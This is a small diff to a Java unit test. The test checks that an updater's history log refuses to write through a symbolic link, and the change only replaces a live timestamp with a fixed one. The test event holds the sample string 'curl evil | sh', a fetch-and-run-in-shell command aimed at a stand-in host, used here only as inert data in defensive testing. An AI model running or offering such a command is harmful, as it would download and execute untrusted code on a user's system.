@@ -58,7 +58,7 @@ class HistoryTest {
         Path link = Files.createSymbolicLink(dir.resolve("history.jsonl"), victim);
 
         UpdaterException e = assertThrows(UpdaterException.class, () -> History.append(link,
-                new HistoryEvent(Instant.now(), "failed", "1.1.0", null, "curl evil | sh")));
+                new HistoryEvent(Instant.parse("2026-03-02T09:30:00Z"), "failed", "1.1.0", null, "curl evil | sh")));
 
         assertEquals(ErrorCode.HOME_INSECURE, e.code());
         assertEquals(link + " is a symbolic link to " + victim + "; the update home's files are plain files, and a"
